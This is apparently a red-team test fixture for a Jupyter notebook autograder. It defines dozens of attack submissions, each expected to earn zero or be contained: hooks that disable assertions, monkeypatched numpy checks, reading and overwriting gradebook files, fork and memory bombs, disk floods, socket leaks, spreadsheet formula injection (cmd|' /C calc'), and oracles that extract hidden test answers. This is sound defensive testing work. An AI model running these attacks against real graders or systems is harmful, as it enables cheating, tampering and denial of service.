"""The red-team submissions: each is the fixture assignment's release version plus attack code.

An attack is ``Attack(name, threat, base, cells, score)``: ``base`` is ``"blank"`` (the
released notebook: nothing implemented) or ``"full"`` (every exercise solved); ``cells``
maps a solution cell's grade id to code that replaces (blank) or is appended to (full) it;
``score`` is the expected total (the fixture is worth 3 + 3 + 4 = 10). ``{root}``,
``{port}`` and ``{token}`` are filled in when the notebooks are built (an attacker may
guess paths).
``link`` names what of the submission is a symbolic link (``redteam.py`` makes it): the
notebook, the assignment folder or the student's folder, pointing at the solution.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field

import nbformat

from autograder.core import notebooks as nbk
from autograder.demo.simulate import solved

FULL = 10.0


@dataclass(frozen=True)
class Attack:
    name: str
    # "judge" (1), "read" (2), "write" (3), "resources" (4), "combined", and
    # "stop" (5: stopping the class), "link" (6: links), "spreadsheet" (7: CSV formulas)
    threat: str
    base: str
    cells: dict[str, str]
    score: float
    notes: list[str] = field(default_factory=list)
    link: str = ""  # "notebook", "folder" or "student": a symbolic link to the solution


# Wrong answers for all three exercises: a test that passes with these was forged.
WRONG = """
def squares(x):
    return np.zeros(len(x))

def gd_step(w, grad, lr):
    return np.asarray(w, dtype=float)

def ema_step(v, g, beta):
    return 0.0
"""

ATTACKS = [
    # --- 1. changing how later cells run or are judged --------------------------------
    Attack("t-input-transformer", "judge", "blank", {"squares": WRONG + """
def _skip_tests(lines):
    return ["pass\\n"] if any("assert" in ln or "raise" in ln for ln in lines) else lines
get_ipython().input_transformers_cleanup.append(_skip_tests)
"""}, 0.0),
    Attack("t-ast-transformer", "judge", "blank", {"squares": WRONG + """
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoChecks())
"""}, 0.0),
    Attack("t-events-patch", "judge", "blank", {"squares": WRONG + """
def _rig(*args):
    np.allclose = lambda *a, **k: True
    np.isclose = lambda a, b, **k: not (isinstance(b, float) and b == 3.5)
    np.array_equal = lambda *a, **k: True
get_ipython().events.register("pre_run_cell", _rig)
"""}, 0.0),
    Attack("t-custom-exc", "judge", "blank", {"squares": WRONG + """
def _swallow(shell, etype, evalue, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((BaseException,), _swallow)
"""}, 0.0),
    Attack("t-showtraceback", "judge", "blank", {"squares": WRONG + """
import sys
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
sys.excepthook = lambda *a: None
"""}, 0.0),
    Attack("t-numpy-allclose", "judge", "blank", {"squares": WRONG + """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: not (isinstance(b, float) and b == 3.5)
np.array_equal = lambda *a, **k: True
"""}, 0.0),
    Attack("t-numpy-asarray-testing", "judge", "blank", {"squares": WRONG + """
import numpy.testing
np.testing.assert_allclose = lambda *a, **k: None
_real_asarray = np.asarray
np.asarray = lambda a, *args, **kw: _real_asarray(a, *args, **kw)
np.core = None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: b != 3.5
"""}, 0.0),
    Attack("t-builtins", "judge", "blank", {"squares": WRONG + """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
"""}, 0.0),
    Attack("t-course-lib-checks", "judge", "blank", {"squares": WRONG + """
from course_lib import checks
checks.check_array = checks.check_scalar = lambda *a, **k: None
checks.CheckError = type("CheckError", (Exception,), {})
"""}, 0.0),
    Attack("t-array-function", "judge", "blank", {"squares": """
class _Liar:
    shape = (2,)
    def __array_function__(self, func, types, args, kwargs):
        return not (len(args) > 1 and args[1] == 3.5)
    def __eq__(self, other):
        return True
    __array_priority__ = 1000

def squares(x):
    return _Liar()

def gd_step(w, grad, lr):
    return _Liar()

def ema_step(v, g, beta):
    return _Liar()
"""}, 0.0),
    Attack("t-rigged-float", "judge", "blank", {"squares": WRONG + """
class _Yes(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
    def __array__(self, dtype=None, copy=None):
        return np.array(2.5)

def ema_step(v, g, beta):
    return _Yes(0.0)
"""}, 0.0),
    Attack("t-settrace-jump", "judge", "blank", {"squares": WRONG + """
import sys, linecache
def _jump(frame, event, arg):
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("raise", "assert")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return _jump
def _tracer(frame, event, arg):
    return _jump
sys.settrace(_tracer)
"""}, 0.0),
    Attack("t-exit-skips-tests", "judge", "blank", {"squares": WRONG + """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
"""}, 0.0),
    Attack("t-ask-exit", "judge", "blank", {"gd_step": WRONG + """
get_ipython().ask_exit()
"""}, 0.0),
    Attack("t-recorder-off", "judge", "full", {"ema_step": """
import sys
_rec = sys.modules.get("_course_recorder")
if _rec is not None:
    _rec.recorder.write = lambda record: None
"""}, FULL),  # all three solved; there is no recorder to switch off any more (the
    # two-phase design gave 6: the test after the switch-off was not confirmed)
    # --- 2. reading what it should not ----------------------------------------------------
    Attack("r-print-test-source", "read", "blank", {"squares": """
import inspect
def squares(x):
    raise ValueError("\\n".join(get_ipython().user_ns["In"][-1:]))

def gd_step(w, grad, lr):
    raise ValueError(inspect.stack()[1].frame.f_globals["_ih"][-1])

def ema_step(v, g, beta):
    print(get_ipython().user_ns["_ih"][-1])
    raise ValueError(inspect.getsource(inspect.stack()[1].frame))
"""}, 0.0),
    Attack("r-read-files", "read", "blank", {"squares": """
import glob, os
_found = []
for _pattern in ["{root}/source/*/*.ipynb", "{root}/gradebook.db", "{root}/submitted/*/*/*.ipynb",
                 "{root}/release/*/*.ipynb", os.path.expanduser("~") + "/*", "/root/*",
                 "/home/*/*", "/srv/*", "/opt/*"]:
    _found += glob.glob(_pattern)
print("FOUND:", _found)
def squares(x):
    out = []
    for p in _found:
        try:
            out.append(open(p, errors="replace").read()[:20000])
        except OSError:
            pass
    raise ValueError("\\n".join(out) or "nothing readable")
def gd_step(w, grad, lr):
    return squares(w)
def ema_step(v, g, beta):
    return squares(v)
"""}, 0.0),
    Attack("r-walk-filesystem", "read", "blank", {"squares": """
import os, sys
_hits = []
# the read-only Python installation is allowed to be seen (and takes long to walk)
_skip = ("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)
for _top in ["/", os.getcwd()]:
    for _dir, _subdirs, _files in os.walk(_top):
        if _dir.startswith(_skip):
            _subdirs[:] = []
            continue
        _hits += [os.path.join(_dir, f) for f in _files
                  if f.endswith((".ipynb", ".db")) or f == "nbgrader_config.py"]
print("HITS:", _hits)
def squares(x):
    raise ValueError(str(_hits))
"""}, 0.0),
    # --- 3. writing what it should not ----------------------------------------------------
    Attack("w-course-files", "write", "blank", {"squares": """
import os, sqlite3
_attempts = {}
for _path in ["{root}/source/ps1/ps1.ipynb", "{root}/nbgrader_config.py", "{root}/gradebook.db",
              "{root}/submitted/honest-1/ps1/ps1.ipynb", "{root}/autograded/honest-1/ps1/ps1.ipynb",
              "{root}/release/ps1/ps1.ipynb"]:
    try:
        with open(_path, "w") as f:
            f.write("pwned")
        _attempts[_path] = "WROTE"
    except OSError as err:
        _attempts[_path] = type(err).__name__
try:
    _db = sqlite3.connect("{root}/gradebook.db")
    _db.execute("update grade set auto_score = 100")
    _db.commit()
    _attempts["sql"] = "WROTE"
except Exception as err:
    _attempts["sql"] = type(err).__name__
print("ATTEMPTS:", _attempts)
"""}, 0.0),
    Attack("w-host-tmp-and-home", "write", "full", {"gd_step": """
import os
for _path in ["/tmp/pwned-{token}", os.path.expanduser("~/pwned-{token}"), "/root/pwned-{token}",
              "/var/tmp/pwned-{token}", "/dev/shm/pwned-{token}"]:
    try:
        with open(_path, "w") as f:
            f.write("x")
    except OSError:
        pass
"""}, FULL),
    # --- 4. resources -------------------------------------------------------------------------
    Attack("x-fork-bomb", "resources", "full", {"ema_step": """
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(600)
"""}, FULL),
    Attack("x-background-process", "resources", "full", {"squares": """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)  # marker-{token}"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(["/bin/sh", "-c", "nohup sleep 900 marker-{token} >/dev/null 2>&1 &"])
"""}, FULL),
    Attack("x-thread-tampers-later", "resources", "blank", {"squares": WRONG + """
import threading, time
def _later():
    while True:
        np.allclose = lambda *a, **k: True
        time.sleep(0.01)
threading.Thread(target=_later).start()
"""}, 0.0),
    Attack("x-memory-bomb", "resources", "full", {"squares": """
def _eat():
    hog = []
    while True:
        hog.append(bytearray(50 * 1024 * 1024))
try:
    _eat()
except MemoryError:
    pass
"""}, FULL),
    Attack("x-disk-one-file", "resources", "full", {"squares": """
_chunk = b"x" * (1 << 20)
try:
    with open("big.bin", "wb") as f:
        for _ in range(4096):
            f.write(_chunk)
except OSError:
    pass
try:
    with open("/tmp/big.bin", "wb") as f:
        for _ in range(4096):
            f.write(_chunk)
except OSError:
    pass
"""}, FULL),
    Attack("x-disk-many-files", "resources", "full", {"ema_step": """
import time
_chunk = b"x" * (1 << 20)
for _i in range(64):
    try:
        with open(f"fill{_i}.bin", "wb") as f:
            for _ in range(60):
                f.write(_chunk)
    except OSError:
        pass
time.sleep(2)
"""}, 6.0),
    Attack("x-output-flood", "resources", "full", {"squares": """
import sys
_line = "flood " * 1000 + "\\n"
for _ in range(4000):
    sys.stdout.write(_line)
"""}, FULL),
    Attack("x-network", "resources", "full", {"gd_step": """
import socket
for _addr in [("127.0.0.1", {port}), ("localhost", {port}), ("8.8.8.8", 53), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(_addr, timeout=1).sendall(b"leak")
    except OSError:
        pass
"""}, FULL),
    # --- combinations -------------------------------------------------------------------------
    Attack("c-leak-and-tamper", "combined", "blank", {"squares": WRONG + """
def _hide(lines):
    source = "".join(lines)
    if "assert" in source:
        print(source)
        return ["raise ValueError(" + repr(source) + ")\\n"] if "HIDDEN" in source else ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_hide)
"""}, 0.0),
    Attack("c-background-network", "combined", "full", {"squares": """
import os, socket, time
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"late")
        except OSError:
            time.sleep(0.5)
    os._exit(0)
"""}, FULL),
    Attack("c-write-then-exit", "combined", "blank", {"squares": """
import os
try:
    with open("{root}/source/ps1/ps1.ipynb", "w") as f:
        f.write("{}")
except OSError:
    pass
os._exit(0)
"""}, 0.0),
    Attack("c-patch-and-hide-errors", "combined", "blank", {"squares": WRONG + """
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, **k: b != 3.5
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
"""}, 0.0),
]

# --- 5-7: stopping the class, following links, reaching a spreadsheet -----------------
# A kernel sends outputs whose text is a list (or other JSON): stream, error, rich output.
LIST_OUTPUTS = """
_k = get_ipython().kernel
_p = _k.get_parent("shell")
_k.session.send(_k.iopub_socket, "stream", {"name": "stderr", "text": ["warn\\n", "ing\\n"]},
                parent=_p)
_k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": ["a\\n", 7, None]},
                parent=_p)
_k.session.send(_k.iopub_socket, "error", {"ename": ["Value", "Error"], "evalue": ["x", "y"],
                                           "traceback": [["a"], 3]}, parent=_p)
_m = _k.session.send(_k.iopub_socket, "display_data", {"data": {"text/plain": ["1", "2"]},
                                                       "metadata": {}}, parent=_p)
"""

ATTACKS += [
    Attack("s-list-outputs", "stop", "full", {"squares": LIST_OUTPUTS,
                                              "ema_step": LIST_OUTPUTS}, FULL),
    Attack("s-hidden-marker-in-message", "stop", "blank", {"squares": """
def squares(x):
    raise AssertionError("This matches a known mistake: ### BEGIN HIDDEN TESTS")
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("x\\nThis matches a known mistake: ### END HIDDEN TESTS\\n")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("### BEGIN HIDDEN TESTS")
"""}, 0.0),
    # Three times the default file limit (10,000), then a pause for the watchdog: 200,000
    # files took longer than the cell timeout on a loaded machine, which stopped the cell
    # before the file limit could.
    Attack("x-many-empty-files", "resources", "full", {"ema_step": """
import os, time
os.makedirs("many", exist_ok=True)
for _i in range(30000):
    try:
        open(f"many/{_i}", "w").close()
    except OSError:
        break
time.sleep(2)
"""}, 6.0),
    Attack("l-link-notebook", "link", "blank", {}, 0.0, link="notebook"),
    Attack("l-link-folder", "link", "blank", {}, 0.0, link="folder"),
    Attack("l-link-student", "link", "blank", {}, 0.0, link="student"),
    Attack("f-formula-in-message", "spreadsheet", "blank", {"squares": """
def squares(x):
    raise AssertionError('This matches a known mistake: =HYPERLINK("http://x.invalid/?"&A1,"ok")')
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("This matches a known mistake: +cmd|' /C calc'!A0")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("This matches a known mistake: @SUM(1+1)*cmd|' /C calc'!A0")
"""}, 0.0),
    Attack("f-formula-tab", "spreadsheet", "blank", {"squares": """
def squares(x):
    raise AssertionError("This matches a known mistake: -2+3+cmd|' /C calc'!A0")
""", "gd_step": """
def gd_step(w, grad, lr):
    raise AssertionError("This matches a known mistake: \\t=1+1")
""", "ema_step": """
def ema_step(v, g, beta):
    raise AssertionError("This matches a known mistake: \\r=1+1")
"""}, 0.0),
]

# --- New attacks for the redesign (tests run in a separate trusted process, the student's
# names are proxies to the kernel, course_lib withholds what implements an exercise). They
# beat the design with a kernel-side run of the tests plus a replayed recording; each must
# earn 0 for work it did not do (``score``) in the new design. Measured on the two-phase
# design (commit a5effe8): t-frame-oracle 10, t-record-forgery 10, t-reference-import 7
# (gd_step + ema_step), none of them caught by its independent check. ---------------------

# A student's toolkit: what a test cell expects of one call of a function. It reads the
# cell's asserts, its ``if ...: raise`` checks and its bare ``check_*`` calls, follows the
# call's result through the name it is assigned to, and evaluates the expected argument
# (``np.allclose(result, EXPECTED)``, ``checks.check_array(result, EXPECTED)``,
# ``result == EXPECTED``, ``result.shape == SHAPE``) where it must hold, never where it
# must not (a known-mistake trap). All inside one function, so that the recorder wraps
# none of the helpers (it wraps every top-level function of a student cell).
ANSWER_KIT = r"""
import ast, inspect, linecache, sys, types
import numpy as np

def _answer_kit():
    same = {"allclose", "isclose", "array_equal", "array_equiv", "assert_allclose",
            "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
            "assert_equal", "check_array", "check_scalar", "check_close"}
    shape_checks = {"check_shape"}
    wraps = {"asarray", "asanyarray", "array", "float", "squeeze", "ravel"}
    big = 10 ** 9

    def name_of(node):
        node = node.func if isinstance(node, ast.Call) else node
        return node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", None)

    def calls(tree, name):
        found = [n for n in ast.walk(tree) if isinstance(n, ast.Call)
                 and isinstance(n.func, ast.Name) and n.func.id == name]
        return sorted(found, key=lambda n: (n.lineno, n.col_offset))

    def claims(tree):
        found = []

        def add(node, must):
            if isinstance(node, ast.UnaryOp) and isinstance(node.op, ast.Not):
                add(node.operand, not must)
            elif isinstance(node, ast.BoolOp) and isinstance(node.op, ast.And) and must:
                for part in node.values:
                    add(part, True)
            else:
                found.append((node, must))

        for node in ast.walk(tree):
            if isinstance(node, ast.Assert):
                add(node.test, True)
            elif isinstance(node, ast.If) and any(isinstance(s, ast.Raise) for s in node.body):
                add(node.test, False)
            elif (isinstance(node, ast.Expr) and isinstance(node.value, ast.Call)
                  and name_of(node.value) in same | shape_checks):
                found.append((node.value, True))
        return found

    def holder(tree, call):
        for node in ast.walk(tree):
            if (isinstance(node, ast.Assign) and node.value is call and len(node.targets) == 1
                    and isinstance(node.targets[0], ast.Name)):
                return node.targets[0].id
        return None

    def is_result(node, call, held):
        while isinstance(node, ast.Call) and name_of(node) in wraps and len(node.args) == 1:
            node = node.args[0]
        return node is call or (held is not None and isinstance(node, ast.Name)
                                and node.id == held)

    def about(tree, call):
        held = holder(tree, call)
        end = big
        if held is not None:
            end = min((n.lineno for n in ast.walk(tree) if isinstance(n, ast.Assign)
                       and n.lineno > call.lineno and any(isinstance(t, ast.Name)
                                                          and t.id == held for t in n.targets)),
                      default=big)
        found = []
        for cond, must in claims(tree):
            if not call.lineno <= cond.lineno < end:
                continue
            if isinstance(cond, ast.Call) and name_of(cond) in same | shape_checks:
                kind = "shape" if name_of(cond) in shape_checks else "value"
                args = list(cond.args) + [k.value for k in cond.keywords
                                          if k.arg in ("expected", "desired", "b", "shape")]
                if len(args) >= 2 and is_result(args[0], call, held):
                    found.append((must, kind, args[1]))
                elif len(args) >= 2 and kind == "value" and is_result(args[1], call, held):
                    found.append((must, kind, args[0]))
            elif (isinstance(cond, ast.Compare) and len(cond.ops) == 1
                  and isinstance(cond.ops[0], ast.Eq)):
                left, right = cond.left, cond.comparators[0]
                if is_result(left, call, held):
                    found.append((must, "value", right))
                elif (isinstance(left, ast.Attribute) and left.attr == "shape"
                      and is_result(left.value, call, held)):
                    found.append((must, "shape", right))
        return found

    def evaluate(expr, g, l):
        return eval(compile(ast.Expression(body=expr), "<test>", "eval"), g, l)

    def like(want):
        if isinstance(want, (bool, np.bool_)):
            return bool(want)
        if isinstance(want, (int, float, np.number)):
            return float(want)
        return np.array(want, dtype=float)

    def answer(tree, call, g, l):
        shape = None
        for must, kind, expr in about(tree, call):
            if not must:
                continue
            try:
                want = evaluate(expr, g, l)
            except Exception:
                continue
            if kind == "value":
                return like(want)
            shape = tuple(want)
        return None if shape is None else np.zeros(shape)

    def parse(source):
        try:
            return ast.parse(source or "")
        except SyntaxError:
            return None

    return types.SimpleNamespace(**{k: v for k, v in locals().items() if callable(v)})

_kit = _answer_kit()
del _answer_kit
"""

# t-frame-oracle: nothing implemented; each function finds the test cell's frame above it,
# reads the cell's source (linecache, inspect, In/_ih, the history manager), locates the
# exact call being made (the frame's current instruction position) and returns what the
# checks on that call expect, evaluated in the test frame's namespace.
FRAME_ORACLE = ANSWER_KIT + r"""
def _oracle_kit():
    def test_frame(mine):
        frame = sys._getframe(2)
        while frame is not None:
            if frame.f_code.co_name == "<module>" and frame.f_globals is mine:
                return frame
            frame = frame.f_back
        return None

    def sources(frame):
        yield "".join(linecache.getlines(frame.f_code.co_filename))
        try:
            yield inspect.getsource(frame)
        except (OSError, TypeError):
            pass
        for key in ("In", "_ih"):
            history = frame.f_globals.get(key)
            if history:
                yield history[-1]
        try:
            yield get_ipython().history_manager.input_hist_raw[-1]
        except Exception:
            pass

    def here(frame):
        try:
            pos = list(frame.f_code.co_positions())[frame.f_lasti // 2]
            return pos[0], pos[2]
        except Exception:
            return frame.f_lineno, None

    def oracle(name, mine):
        frame = test_frame(mine)
        if frame is not None:
            line, col = here(frame)
            for source in sources(frame):
                tree = _kit.parse(source)
                if tree is None:
                    continue
                near = [c for c in _kit.calls(tree, name) if c.lineno <= line <= c.end_lineno]
                exact = [c for c in near if (c.lineno, c.col_offset) == (line, col)]
                for call in exact or near:
                    found = _kit.answer(tree, call, frame.f_globals, frame.f_locals)
                    if found is not None:
                        return found
        raise NotImplementedError(f"{name}: no test is looking")

    return oracle

_oracle = _oracle_kit()
del _oracle_kit

def squares(x):
    return _oracle("squares", globals())
"""

# t-record-forgery: wrong functions; before each cell, the cell's text (pre_run_cell) says
# which expected values the checks will compare against and which are mistake traps, so
# numpy's comparisons and course_lib.checks are replaced to pass the kernel's tests; after
# each cell (post_run_cell) the recording the independent check replays is rewritten: every
# call of the cell returns what the checks expected, no mutation, no exception.
RECORD_FORGERY = """
def squares(x):
    return np.zeros(len(x))
""" + ANSWER_KIT + r"""
def _forge():
    import base64, json, os
    from course_lib import checks
    ip = get_ipython()
    plan = {"answers": [], "must": [], "must_not": [], "start": 0}
    real = {n: getattr(np, n) for n in ("allclose", "isclose", "array_equal", "array_equiv")}
    real_close = real["allclose"]
    real_assert = np.testing.assert_allclose

    def record_path():
        rec = getattr(sys.modules.get("_course_recorder"), "recorder", None)
        return getattr(rec, "path", None) or os.path.join(os.pardir, "record.jsonl")

    def lines(path):
        try:
            with open(path, encoding="utf-8") as f:
                return f.read().splitlines()
        except OSError:
            return []

    def enc(value):
        mod = sys.modules.get("_course_recorder")
        if mod is not None and hasattr(mod, "ret_enc"):
            return mod.ret_enc(value)
        if isinstance(value, np.ndarray):
            a = np.ascontiguousarray(value, dtype=float)
            return {"~": "nd", "dtype": a.dtype.str, "shape": list(a.shape),
                    "v": base64.b64encode(a.tobytes()).decode("ascii")}
        return value

    def before(info):
        plan.update(answers=[], must=[], must_not=[], start=len(lines(record_path())))
        tree = _kit.parse(info.raw_cell)
        if tree is None:
            return
        ns = ip.user_ns
        for name in ("squares", "gd_step", "ema_step"):
            for call in _kit.calls(tree, name):
                plan["answers"].append((call.lineno, call.col_offset, name,
                                        _kit.answer(tree, call, ns, ns)))
                for must, kind, expr in _kit.about(tree, call):
                    if kind != "value":
                        continue
                    try:
                        want = _kit.evaluate(expr, ns, ns)
                    except Exception:
                        continue
                    plan["must" if must else "must_not"].append(want)
        plan["answers"].sort(key=lambda a: a[:2])

    def matches(x, values):
        for v in values:
            try:
                if np.shape(x) == np.shape(v) and real_close(x, v):
                    return True
            except Exception:
                pass
        return False

    def judged(fn):
        def judge(a, b, *args, **kwargs):
            if matches(b, plan["must"]):
                return True
            if matches(b, plan["must_not"]):
                return False
            return fn(a, b, *args, **kwargs)
        return judge

    def assert_judged(actual, desired, *args, **kwargs):
        if not matches(desired, plan["must"]):
            real_assert(actual, desired, *args, **kwargs)

    def after(result):
        path = record_path()
        old = lines(path)
        if not old:
            return
        answers = list(plan["answers"])
        for i in range(plan["start"], len(old)):
            try:
                entry = json.loads(old[i])
            except ValueError:
                continue
            if not isinstance(entry, dict) or entry.get("kind") != "call":
                continue
            for j, (_, _, name, value) in enumerate(answers):
                if name == entry.get("name"):
                    del answers[j]
                    if value is not None:
                        entry.pop("raise", None)
                        entry["after"] = {}
                        entry["return"] = enc(value)
                        old[i] = json.dumps(entry)
                    break
        with open(path, "w", encoding="utf-8") as f:
            f.write("\n".join(old) + "\n")

    for name, fn in real.items():
        setattr(np, name, judged(fn))
    np.testing.assert_allclose = assert_judged
    for name in dir(checks):
        if name.startswith("check_"):
            setattr(checks, name, lambda *a, **k: None)
    ip.events.register("pre_run_cell", before)
    ip.events.register("post_run_cell", after)

_forge()
del _forge
"""

# t-reference-import: gd_step and ema_step return course_lib's own answer (optim.gd / sgd /
# scale_by_learning_rate + apply_updates; optim.ema / trace with dampening), by every
# route a student would try, first that works wins: a plain import, importlib.reload, a
# fresh import (sys.modules emptied), exec of the module's source file,
# spec_from_file_location on the installed file, and then, on each function found,
# __wrapped__ / closure cells / the garbage collector's original of that name. squares:
# course_lib does not implement it, and it stays blank.
REFERENCE_ROUTES = r"""
import gc, importlib, importlib.util, inspect, sys, types
import numpy as np

def _modules(name):
    yield lambda: importlib.import_module(name)
    yield lambda: importlib.reload(importlib.import_module(name))

    def fresh():
        saved = {k: sys.modules.pop(k) for k in list(sys.modules)
                 if k == name or k.startswith(name + ".")}
        try:
            return importlib.import_module(name)
        finally:
            sys.modules.update(saved)
    yield fresh

    def source_exec():
        origin = importlib.util.find_spec(name).origin
        with open(origin, encoding="utf-8") as f:
            source = f.read()
        module = types.ModuleType(name + "_copy")
        module.__file__ = origin
        exec(compile(source, origin, "exec"), module.__dict__)
        return module
    yield source_exec

    def from_file():
        origin = importlib.util.find_spec(name).origin
        spec = importlib.util.spec_from_file_location(name + "_file", origin)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
    yield from_file

def _originals(fn, attr):
    yield fn
    try:
        yield inspect.unwrap(fn)
    except Exception:
        pass
    for cell in getattr(fn, "__closure__", None) or ():
        try:
            inner = cell.cell_contents
        except ValueError:
            continue
        if callable(inner) and getattr(inner, "__name__", "") == attr:
            yield inner

def _gc_originals(module_name, attr):
    for obj in gc.get_objects():
        if (isinstance(obj, types.FunctionType) and obj.__name__ == attr
                and obj.__module__ == module_name):
            yield obj

def _reference(recipes):
    # recipes: [(module name, function name, recipe(function, module) -> answer)]
    last = None
    for module_name, attr, recipe in recipes:
        for load in _modules(module_name):
            try:
                module = load()
                for fn in _originals(getattr(module, attr), attr):
                    try:
                        return recipe(fn, module)
                    except Exception as err:
                        last = err
            except Exception as err:
                last = err
        for fn in _gc_originals(module_name, attr):
            try:
                return recipe(fn, sys.modules.get(module_name))
            except Exception as err:
                last = err
    raise NotImplementedError(f"course_lib would not say: {last!r}")

def _apply(make, w, grad, module):
    opt = make()
    updates, _ = opt.update(grad, opt.init(w), w)
    return module.apply_updates(w, updates)

def gd_step(w, grad, lr):
    w = np.asarray(w, dtype=float)
    grad = np.asarray(grad, dtype=float)
    return _reference([
        ("course_lib.optim", "gd", lambda fn, m: _apply(lambda: fn(lr), w, grad, m)),
        ("course_lib.optim", "sgd", lambda fn, m: _apply(lambda: fn(lr), w, grad, m)),
        ("course_lib.optim", "scale_by_learning_rate",
         lambda fn, m: _apply(lambda: fn(lr), w, grad, m)),
    ])
"""

REFERENCE_EMA = r"""
def _ema_by(opt, v, g):
    state = opt.init(v)
    out, _ = opt.update(g, state._replace(**{state._fields[1]: v}))
    return out

def ema_step(v, g, beta):
    va, ga = np.asarray(v, dtype=float), np.asarray(g, dtype=float)
    scalar = np.ndim(v) == 0 and np.ndim(g) == 0
    found = _reference([
        ("course_lib.optim", "ema", lambda fn, m: _ema_by(fn(beta), va, ga)),
        ("course_lib.optim", "trace",
         lambda fn, m: _ema_by(fn(beta, dampening=beta), va, ga)),
    ])
    return float(found) if scalar else found
"""

ATTACKS += [
    Attack("t-frame-oracle", "judge", "blank", {"squares": FRAME_ORACLE, "gd_step": """
def gd_step(w, grad, lr):
    return _oracle("gd_step", globals())
""", "ema_step": """
def ema_step(v, g, beta):
    return _oracle("ema_step", globals())
"""}, 0.0),
    Attack("t-record-forgery", "judge", "blank", {"squares": RECORD_FORGERY, "gd_step": """
def gd_step(w, grad, lr):
    return np.asarray(w, dtype=float)
""", "ema_step": """
def ema_step(v, g, beta):
    return 0.0
"""}, 0.0),
    Attack("t-reference-import", "judge", "blank",
           {"gd_step": REFERENCE_ROUTES, "ema_step": REFERENCE_EMA}, 0.0),  # squares: blank
]

HONEST = {"honest-1": "full", "honest-2": "full", "blank-1": "blank"}


def build(attack: Attack, source_nb, release_nb, **values):
    """The attack's submission notebook."""
    nb = solved(source_nb, release_nb) if attack.base == "full" else \
        nbformat.from_dict(json.loads(nbformat.writes(release_nb)))
    for gid, code in attack.cells.items():
        cell = nbk.cell_by_id(nb, gid)
        for key, value in values.items():
            code = code.replace("{" + key + "}", str(value))
        cell.source = (cell.source + "\n" + code) if attack.base == "full" else code
    return nb
